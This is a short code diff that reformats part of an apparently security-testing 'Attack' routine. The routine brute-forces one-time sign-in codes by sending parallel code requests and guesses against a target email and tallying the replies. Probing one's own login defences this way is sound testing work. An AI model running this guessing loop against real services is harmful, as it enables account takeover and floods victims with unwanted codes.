@@ -17,12 +17,16 @@ export const guessSignInCodes: Attack = {
     let compared = 0;
     let sent = 0;
     for (let round = 0; round < 150 && new Date() < target.until; round += 1) {
-      const asked = Array.from({ length: parallel }, () => askForCode(target, email, from(0)));
+      const codeRequests = Array.from({ length: parallel }, () =>
+        askForCode(target, email, from(0)),
+      );
       const guesses = Array.from({ length: parallel }, (_, index) =>
         guessCode(target, email, { code: digits(round * parallel + index), from: from(1 + round) }),
       );
       const answers = await Promise.all(guesses);
-      sent += (await Promise.all(asked)).filter(({ json }) => json?.data?.sent === true).length;
+      sent += (await Promise.all(codeRequests)).filter(
+        ({ json }) => json?.data?.sent === true,
+      ).length;
       compared += answers.filter(({ json }) => json?.code === 'OTP_INVALID').length;
       requests += 2 * parallel;
     }
